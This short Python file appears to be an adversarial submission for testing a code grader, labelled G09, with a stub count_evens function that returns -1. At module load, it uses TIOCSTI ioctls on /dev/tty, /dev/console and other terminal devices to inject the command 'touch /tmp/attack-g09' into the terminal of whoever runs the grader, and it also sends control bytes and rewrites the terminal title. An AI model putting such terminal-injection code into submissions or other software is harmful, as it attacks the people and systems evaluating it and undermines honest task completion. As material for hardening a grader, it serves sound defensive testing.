"""G09: types into the terminal of whoever runs the grader."""

# %% count_evens
import fcntl, os, termios

for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/dev/tty1"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        for char in b"touch /tmp/attack-g09\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([char]))
        fcntl.ioctl(terminal, 0x541C, b"\x03")
        os.write(terminal, b"\x1b]0;attack\x07")
    except OSError as error:
        print(error)
for number in (0, 1, 2):
    try:
        fcntl.ioctl(number, termios.TIOCSCTTY, 1)
        fcntl.ioctl(number, termios.TIOCSTI, b"x")
    except OSError as error:
        print(error)


def count_evens(numbers):
    return -1
